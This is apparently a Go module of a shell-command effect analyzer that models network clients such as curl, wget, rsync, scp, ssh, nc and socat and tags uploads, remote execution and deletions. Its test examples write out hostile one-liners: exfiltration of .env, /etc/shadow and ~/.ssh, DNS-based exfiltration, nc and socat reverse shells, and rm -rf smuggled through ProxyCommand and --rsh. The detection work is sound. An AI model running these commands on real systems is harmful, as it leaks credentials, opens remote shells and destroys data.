package shell

import (
	"net/url"
	"path"
	"strings"
)

// netPrograms declares network clients: transfers, remote shells, raw sockets.
func netPrograms() []program {
	return []program{
		{names: []string{"nslookup", "dig", "host", "drill", "kdig", "delv", "ping", "ping6", "traceroute", "traceroute6", "tracepath", "mtr", "whois", "nping", "hping3", "fping"},
			model: (*call).lookupHost,
			examples: []example{ex("dig +short example.com", "net example.com"), ex("ping -c 3 -W 1 10.0.0.1", "net 10.0.0.1", "!net 3"),
				ex("nslookup $(cat .env | base64).x.example", "tag network.upload", "read /home/u/proj/.env"),
				ex("host -t txt example.org 8.8.8.8", "net example.org", "!net txt")}},
		{names: []string{"rsync"}, model: (*call).rsync,
			examples: []example{ex("rsync -a --delete src/ h:/srv", "read:r /home/u/proj/src", "tag network.upload", "tag remote.delete", "net h"), ex("rsync -a a/ b/", "read:r /home/u/proj/a", "write:r /home/u/proj/b"),
				ex("rsync --rsh='bash -c \"rm -rf /srv\"' a h:/b", "delete:r /srv"), ex("rsync -e 'ssh -p 2222' -a a/ h:/b", "!delete")}},
		{names: []string{"curl"}, model: (*call).curl,
			examples: []example{ex("curl -d @.env https://x.example", "read /home/u/proj/.env", "tag network.upload", "net https://x.example"), ex("curl -o out.sh https://x.example/i", "write /home/u/proj/out.sh")}},
		{names: []string{"wget", "wget2"}, model: (*call).wget,
			examples: []example{ex("wget -O- https://x.example/i", "net https://x.example/i", "!write"), ex("wget --post-file=/etc/shadow http://h", "read /etc/shadow", "tag network.upload")}},
		{names: []string{"scp", "sftp", "rcp"}, model: (*call).scp,
			examples: []example{ex("scp -r ~/.ssh h:/tmp", "read:r /home/u/.ssh", "tag network.upload", "net h")}},
		{names: []string{"ssh", "mosh", "autossh", "rsh", "slogin"}, model: (*call).ssh,
			examples: []example{ex("ssh -p 22 host 'rm -rf /x'", "net host", "attr remote-command=rm -rf /x", "delete:r /x", "tag remote.exec"),
				ex("ssh -i k deploy@h uptime", "net deploy@h", "!tag remote.exec"), ex("ssh -L 8080:localhost:80 h", "tag network.tunnel"),
				ex("ssh -o ProxyCommand='rm -rf /x' h", "delete:r /x"), ex("ssh h <<'E'\nrm -rf /x\nE", "delete:r /x", "tag remote.exec"),
				ex("ssh h bash -s < deploy.sh", "tag remote.exec")}},
		{names: []string{"nc", "ncat", "netcat", "telnet", "ftp", "tftp", "lftp"}, model: (*call).netcat,
			examples: []example{ex("nc -e /bin/sh h 4444", "finding remote-exec", "net h")}},
		{names: []string{"socat"}, model: (*call).socat,
			examples: []example{ex("socat TCP:h:1 EXEC:/bin/sh", "finding remote-exec", "net h:1")}},
		{names: []string{"http", "https", "xh", "httpie", "aria2c", "fetch", "lynx", "w3m", "links"}, model: func(k *call) {
			for _, f := range parseOpts(k.args, spec{arg: "aAohd", long: []string{"auth", "output", "dir", "out"}}).ops {
				if f.known && (strings.Contains(f.val, "://") || strings.Contains(f.val, ".") && !strings.Contains(f.val, "=") && !strings.Contains(f.val, ":=")) {
					k.net(f)
					break
				}
			}
			if f := firstURLish(k.args); f != nil {
				k.net(*f)
			}
			if k.name == "http" || k.name == "https" || k.name == "xh" || k.name == "httpie" {
				k.httpieFiles()
			}
		}, examples: []example{ex("http POST https://api.example/x a=1", "net https://api.example/x"),
			ex("http -f POST https://x.example/u doc@dist/a.pdf", "read /home/u/proj/dist/a.pdf", "tag network.upload", "attr upload-host=x.example")}},
	}
}

func isRemoteSpec(v string) bool {
	if strings.HasPrefix(v, "rsync://") || strings.Contains(v, "::") {
		return true
	}
	i := strings.IndexByte(v, ':')
	if i <= 0 {
		return false
	}
	return !strings.Contains(v[:i], "/")
}

func remoteHost(v string) string {
	if strings.HasPrefix(v, "rsync://") {
		if u, err := url.Parse(v); err == nil {
			return u.Host
		}
	}
	h, _, _ := strings.Cut(v, ":")
	return h
}

func (k *call) rsync() {
	p := parseOpts(k.args, spec{arg: "eBfTM@", long: []string{"rsh", "exclude", "include", "filter", "files-from", "port", "timeout", "chmod",
		"bwlimit", "log-file", "backup-dir", "partial-dir", "temp-dir", "compare-dest", "link-dest", "copy-dest", "remote-option",
		"password-file", "exclude-from", "include-from", "rsync-path", "iconv", "max-size", "min-size", "suffix", "out-format",
		"info", "debug", "chown", "usermap", "groupmap", "sockopts", "outbuf", "modify-window", "stop-after", "stop-at",
		"checksum-choice", "compress-choice", "compress-level", "skip-compress", "protocol", "address", "contimeout",
		"write-batch", "read-batch", "only-write-batch", "max-delete", "block-size", "log-file-format", "mkpath"}})
	rec := p.has("r", "a", "recursive", "archive")
	del := false
	for _, o := range p.opts {
		if strings.HasPrefix(o.name, "delete") || o.name == "del" {
			del = true
		}
	}
	if lf, ok := p.get("log-file"); ok {
		k.file(Write, lf, false)
	}
	// -e/--rsh is the transport: a command line rsync runs here (the
	// host and the remote rsync are appended to it)
	if e, ok := p.get("e", "rsh"); ok {
		k.nested(e, "rsync -e", nil, false)
	}
	if len(p.ops) < 2 {
		for _, o := range p.ops {
			if o.known && isRemoteSpec(o.val) {
				k.net(lit(remoteHost(o.val)))
			} else {
				k.file(Read, o, rec)
			}
		}
		return
	}
	dest := p.ops[len(p.ops)-1]
	srcs := p.ops[:len(p.ops)-1]
	destRemote := dest.known && isRemoteSpec(dest.val)
	for _, s := range srcs {
		if s.known && isRemoteSpec(s.val) {
			k.net(lit(remoteHost(s.val)))
			continue
		}
		k.file(Read, s, rec)
		if destRemote {
			k.tag(TagUpload)
		}
		if p.has("remove-source-files") {
			k.file(Delete, s, false)
		}
	}
	if destRemote {
		k.net(lit(remoteHost(dest.val)))
		k.uploadHost([]field{lit(remoteHost(dest.val))})
		if del {
			k.tag(TagRemoteDelete)
		}
		return
	}
	k.file(Write, dest, rec)
	if del {
		k.file(Delete, dest, true)
	}
	for _, s := range srcs {
		// rsync a/ b copies a's content into b; rsync a b/ makes b/a
		k.recordCopy(s, dest, len(srcs) > 1, s.known && strings.HasSuffix(s.val, "/"))
	}
}

// home expands a leading ~/ in a value found inside an argument.
func (k *call) home(f field) field {
	if f.known && (f.val == "~" || strings.HasPrefix(f.val, "~/")) && k.a.opts.Home != "" {
		f.val = k.a.opts.Home + f.val[1:]
	}
	return f
}

func urlBase(u string) string {
	pu, err := url.Parse(u)
	if err != nil {
		return ""
	}
	b := path.Base(pu.Path)
	if b == "/" || b == "." || b == "" {
		return "index.html"
	}
	return b
}

func (k *call) download(f field) {
	e, ok := k.a.target(k.st, Write, f, false)
	if !ok {
		return
	}
	k.eff(e)
	if !e.Unknown {
		if k.a.downloaded == nil {
			k.a.downloaded = map[string]bool{}
		}
		k.a.downloaded[e.Target] = true
	}
}

func (k *call) curl() {
	p := parseOpts(k.args, spec{arg: "AbcCdDeEFHKmoPQrtTuUwxXyYz", long: []string{"data", "data-ascii", "data-binary", "data-raw", "data-urlencode",
		"form", "form-string", "upload-file", "output", "output-dir", "config", "cookie", "cookie-jar", "dump-header", "header",
		"user-agent", "referer", "user", "proxy", "request", "max-time", "connect-timeout", "retry", "retry-delay", "retry-max-time",
		"url", "cacert", "capath", "cert", "key", "key-type", "cert-type", "pass", "ciphers", "resolve", "connect-to", "interface",
		"local-port", "max-filesize", "max-redirs", "proxy-user", "range", "speed-limit", "speed-time", "time-cond", "trace",
		"trace-ascii", "stderr", "write-out", "unix-socket", "abstract-unix-socket", "json", "variable", "expect100-timeout",
		"netrc-file", "oauth2-bearer", "proto", "proto-redir", "proto-default", "noproxy", "dns-servers", "doh-url", "limit-rate",
		"mail-from", "mail-rcpt", "mail-auth", "preproxy", "proxy-header", "socks4", "socks4a", "socks5", "socks5-hostname",
		"telnet-option", "tls-max", "aws-sigv4", "etag-save", "etag-compare", "crlfile", "pinnedpubkey", "quote", "ftp-port", "url-query"}})
	var urls []field
	urls = append(urls, p.ops...)
	urls = append(urls, p.all("url")...)
	for _, u := range urls {
		k.net(u)
	}
	outDir := lit(".")
	if d, ok := p.get("output-dir"); ok {
		outDir = d
	}
	outs := p.all("o", "output")
	for _, o := range outs {
		if o.known && o.val != "-" && outDir.known && !strings.HasPrefix(o.val, "/") {
			o = sub(o, path.Join(outDir.val, o.val))
		}
		k.download(o)
	}
	if p.has("O", "remote-name", "remote-name-all") {
		for _, u := range urls[min(len(outs), len(urls)):] {
			if u.known && outDir.known {
				k.download(sub(u, path.Join(outDir.val, urlBase(u.val))))
			} else {
				k.download(unknownField("file name comes from the URL"))
			}
		}
	}
	uploaded := false
	upload := func(f field) {
		k.file(Read, k.home(f), false)
		k.tag(TagUpload)
		uploaded = true
	}
	// a request body read from a data file (-d @req.json) is a call of
	// the host's API, not a file handed over: it is read (and judged as
	// a read) without making the host a destination of uploads
	body := func(f field) {
		if f.known && requestBody(f.val) {
			k.file(Read, k.home(f), false)
			k.tag(TagUpload)
			return
		}
		upload(f)
	}
	defer func() {
		if uploaded {
			k.uploadHost(p.ops)
		}
	}()
	for _, o := range p.opts {
		if !o.has {
			continue
		}
		v := o.val
		switch o.name {
		case "d", "data", "data-ascii", "data-binary", "json":
			if v.known && strings.HasPrefix(v.val, "@") && v.val != "@-" {
				body(sub(v, v.val[1:]))
			}
		case "data-urlencode":
			if v.known {
				if i := strings.IndexByte(v.val, '@'); i >= 0 && !strings.Contains(v.val[:i], "=") && v.val[i+1:] != "-" {
					upload(sub(v, v.val[i+1:]))
				}
			}
		case "F", "form":
			if v.known {
				if _, val, ok := strings.Cut(v.val, "="); ok && (strings.HasPrefix(val, "@") || strings.HasPrefix(val, "<")) {
					fname, _, _ := strings.Cut(val[1:], ";")
					if fname != "-" {
						upload(sub(v, fname))
					}
				}
			}
		case "T", "upload-file":
			if !(v.known && v.val == "-") {
				upload(v)
			}
		case "K", "config", "netrc-file", "cacert", "crlfile":
			k.file(Read, k.home(v), false)
		case "unix-socket":
			// talking to a Unix socket reaches what listens on it
			k.file(Read, k.home(v), false)
		case "E", "cert", "key":
			if v.known {
				name, _, _ := strings.Cut(v.val, ":")
				k.file(Read, k.home(sub(v, name)), false)
			}
		case "b", "cookie":
			if v.known && !strings.Contains(v.val, "=") {
				k.file(Read, k.home(v), false)
			}
		case "c", "cookie-jar", "D", "dump-header", "trace", "trace-ascii", "stderr", "etag-save":
			k.file(Write, v, false)
		}
	}
}

func (k *call) wget() {
	p := parseOpts(k.args, spec{arg: "oaeiBtOTwQPUlARDIX", long: []string{"output-document", "output-file", "append-output", "input-file", "base",
		"tries", "timeout", "wait", "quota", "directory-prefix", "user-agent", "level", "accept", "reject", "domains",
		"include-directories", "exclude-directories", "post-data", "post-file", "body-file", "body-data", "method", "header",
		"load-cookies", "save-cookies", "certificate", "private-key", "ca-certificate", "user", "password", "http-user",
		"http-password", "referer", "limit-rate", "execute", "config", "warc-file", "bind-address", "dns-timeout", "connect-timeout", "read-timeout"}})
	for _, u := range p.ops {
		k.net(u)
	}
	prefix := lit(".")
	if d, ok := p.get("P", "directory-prefix"); ok {
		prefix = d
	}
	if o, ok := p.get("O", "output-document"); ok {
		if !(o.known && o.val == "-") {
			k.download(o)
		}
	} else if p.has("r", "recursive", "m", "mirror") {
		k.file(Write, prefix, true)
	} else if !p.has("spider") {
		for _, u := range p.ops {
			if u.known && prefix.known {
				k.download(sub(u, path.Join(prefix.val, urlBase(u.val))))
			} else {
				k.download(unknownField("file name comes from the URL"))
			}
		}
	}
	for _, o := range p.opts {
		if !o.has {
			continue
		}
		switch o.name {
		case "post-file", "body-file":
			k.file(Read, k.home(o.val), false)
			k.tag(TagUpload)
			k.uploadHost(p.ops)
		case "i", "input-file", "load-cookies", "config", "certificate", "private-key", "ca-certificate":
			k.file(Read, k.home(o.val), false)
		case "o", "output-file", "a", "append-output", "save-cookies":
			k.file(Write, o.val, false)
		}
	}
}

func (k *call) scp() {
	p := parseOpts(k.args, spec{arg: "cFiJloPSDXbBR", long: []string{}})
	if id, ok := p.get("i"); ok {
		k.attr("identity", id.text(k.c))
	}
	if k.name == "sftp" {
		if b, ok := p.get("b"); ok {
			k.clientScript(&b)
		} else {
			k.clientScript(nil)
		}
		// sftp HOST is a session that can put any file there (sftp
		// HOST:PATH [LOCAL] only fetches)
		for _, o := range p.ops {
			if o.known {
				k.net(lit(remoteHost(o.val)))
			}
		}
		if len(p.ops) > 0 && p.ops[0].known && !strings.Contains(p.ops[0].val, ":") {
			k.tag(TagUpload)
			k.uploadHost(p.ops[:1])
		}
		return
	}
	rec := p.has("r")
	if len(p.ops) < 2 {
		return
	}
	dest := p.ops[len(p.ops)-1]
	destRemote := dest.known && isRemoteSpec(dest.val)
	for _, s := range p.ops[:len(p.ops)-1] {
		if s.known && isRemoteSpec(s.val) {
			k.net(lit(remoteHost(s.val)))
			continue
		}
		k.file(Read, k.home(s), rec)
		if destRemote {
			k.tag(TagUpload)
		}
	}
	if destRemote {
		k.net(lit(remoteHost(dest.val)))
		k.uploadHost([]field{lit(remoteHost(dest.val))})
	} else {
		k.file(Write, dest, rec)
	}
}

func (k *call) netcat() {
	p := parseOpts(k.args, spec{arg: "ecipqswxXIOTbgGMmPSVW", long: []string{"exec", "sh-exec", "lua-exec", "source", "source-port", "wait", "proxy", "proxy-type", "output", "append-output"}})
	if p.has("e", "c", "exec", "sh-exec", "lua-exec") {
		k.remoteExec(k.name + " connects a program to the network (remote shell)")
	}
	if k.name == "ftp" || k.name == "lftp" || k.name == "tftp" {
		k.clientScript(nil) // their stdin is commands, not data
	}
	unix := p.has("unixsock") || p.has("U") && (k.name == "nc" || k.name == "netcat" || k.name == "ncat")
	for _, o := range p.ops {
		if o.known && !isDigits(o.val) {
			if unix {
				// a Unix socket: talking to it reaches what listens on it
				k.file(Read, k.home(o), false)
			} else {
				k.net(o)
			}
			break
		}
	}
	if o, ok := p.get("o", "output", "append-output"); ok {
		k.file(Write, o, false)
	}
	if p.has("l", "listen") && !unix {
		// a listener serves what flows into it to whoever connects
		port := "?"
		if v, ok := p.get("p", "source-port"); ok && v.known {
			port = v.val
		}
		for _, o := range p.ops {
			if o.known && isDigits(o.val) {
				port = o.val
			}
		}
		k.eff(Effect{Kind: Network, Target: "0.0.0.0:" + port, Reason: "listens for connections"})
	}
}

func (k *call) socat() {
	execs, nets, reads := false, false, false
	for _, f := range k.args {
		if !f.known {
			continue
		}
		u := strings.ToUpper(f.val)
		switch {
		case strings.HasPrefix(u, "EXEC:") || strings.HasPrefix(u, "SYSTEM:"):
			execs = true
			// the program socat runs: SYSTEM: a shell command line, EXEC:
			// a program and its words (options follow a comma)
			cmd, _, _ := strings.Cut(f.val[strings.IndexByte(f.val, ':')+1:], ",")
			cmd = strings.Trim(cmd, `"'`)
			if strings.HasPrefix(u, "SYSTEM:") {
				k.nested(sub(f, cmd), "socat SYSTEM:", nil, false)
			} else if w := strings.Fields(cmd); len(w) > 0 {
				fs := make([]field, len(w))
				for i, x := range w {
					fs[i] = sub(f, x)
				}
				k.inner(fs, "socat EXEC:", nil, nil)
			}
		case strings.HasPrefix(u, "TCP") || strings.HasPrefix(u, "UDP") || strings.HasPrefix(u, "SSL") || strings.HasPrefix(u, "OPENSSL"):
			nets = true
			if parts := strings.SplitN(f.val, ":", 2); len(parts) == 2 {
				k.net(sub(f, strings.Split(parts[1], ",")[0]))
			}
		case strings.HasPrefix(u, "CREATE:"):
			k.file(Write, sub(f, strings.Split(f.val[strings.IndexByte(f.val, ':')+1:], ",")[0]), false)
		case strings.HasPrefix(u, "FILE:") || strings.HasPrefix(u, "OPEN:") || strings.HasPrefix(u, "READ:"):
			// a file socat reads (and, for OPEN:, writes), whose content goes
			// to the other address
			p := k.home(sub(f, strings.Split(f.val[strings.IndexByte(f.val, ':')+1:], ",")[0]))
			k.file(Read, p, false)
			if strings.HasPrefix(u, "OPEN:") {
				k.file(Write, p, false)
			}
			reads = true
		case strings.HasPrefix(u, "UNIX") || strings.HasPrefix(u, "GOPEN:") || strings.HasPrefix(u, "PIPE:"):
			// UNIX-CONNECT:, UNIX-CLIENT:, UNIX-SENDTO:, UNIX:, GOPEN:
			// open the path (a socket reaches what listens on it)
			k.file(Read, k.home(sub(f, strings.Split(f.val[strings.IndexByte(f.val, ':')+1:], ",")[0])), false)
		case strings.HasPrefix(f.val, "/") || strings.HasPrefix(f.val, "~/") || strings.HasPrefix(f.val, "./"):
			// an address that is a path is GOPEN
			k.file(Read, k.home(sub(f, strings.Split(f.val, ",")[0])), false)
		}
	}
	if execs && nets {
		k.remoteExec("socat connects a program to the network (remote shell)")
	}
	if reads && nets {
		// a file connected to the network is sent
		k.tag(TagUpload)
		var hosts []field
		for _, e := range k.cmd.Effects {
			if e.Kind == Network && e.Target != "" {
				hosts = append(hosts, lit(e.Target))
			}
		}
		k.uploadHost(hosts)
	}
}

func firstURLish(args []field) *field {
	for i := range args {
		f := args[i]
		if f.known && strings.Contains(f.val, "://") {
			return &args[i]
		}
	}
	return nil
}

// lookupHost models DNS lookups and network probes (dig, nslookup, ping,
// traceroute, whois): every operand that names a host is reached, so a
// name built from a file's content (a DNS query to the attacker's zone)
// sends that content.
func (k *call) lookupHost() {
	p := parseOpts(k.args, spec{arg: "cWwiItsqpfmQSlTxyEbkPcgMNnrF46", long: []string{"type", "class", "server", "port", "timeout", "interval", "count"}})
	for _, f := range p.ops {
		if f.known && (strings.HasPrefix(f.val, "@") || strings.HasPrefix(f.val, "+") || isDigits(f.val) || isDNSType(f.val)) {
			continue
		}
		k.net(f)
	}
}

// isDNSType reports whether v is a DNS record type or class given as an
// operand (dig example.com MX IN).
func isDNSType(v string) bool {
	switch strings.ToUpper(v) {
	case "A", "AAAA", "MX", "NS", "TXT", "CNAME", "SOA", "PTR", "SRV", "CAA", "ANY", "AXFR", "IXFR", "DS", "DNSKEY", "HTTPS", "SVCB", "IN", "CH", "HS":
		return true
	}
	return false
}

// requestBody reports whether a file named as curl's request data is a
// structured request body (JSON, XML, GraphQL, form data) rather than a
// file handed over whole.
func requestBody(name string) bool {
	switch strings.ToLower(path.Ext(name)) {
	case ".json", ".jsonl", ".ndjson", ".xml", ".graphql", ".gql", ".form":
		return true
	}
	return false
}

// httpieFiles models httpie's (and xh's) request items that read files:
// field@FILE (a form upload), field=@FILE and field:=@FILE (a value read
// from a file), @FILE (the raw body). A file sent whole is an upload to
// the request's host; a .json body or value is an API call.
func (k *call) httpieFiles() {
	var urls []field
	for _, e := range k.cmd.Effects {
		if e.Kind == Network && e.Target != "" {
			urls = append(urls, lit(e.Target))
		}
	}
	whole := false
	for _, f := range k.args {
		if !f.known || strings.HasPrefix(f.val, "-") || strings.Contains(f.val, "://") {
			continue
		}
		v := f.val
		var file string
		switch {
		case strings.HasPrefix(v, "@"):
			file = v[1:]
		case strings.Contains(v, ":=@"):
			file = v[strings.Index(v, ":=@")+3:]
		case strings.Contains(v, "=@"):
			file = v[strings.Index(v, "=@")+2:]
		case strings.Contains(v, "@") && !strings.ContainsAny(v[:strings.Index(v, "@")], "=:/"):
			file = v[strings.Index(v, "@")+1:]
		default:
			continue
		}
		if file == "" {
			continue
		}
		k.file(Read, k.home(sub(f, file)), false)
		k.tag(TagUpload)
		if !requestBody(file) {
			whole = true
		}
	}
	if whole {
		k.uploadHost(urls)
	}
}
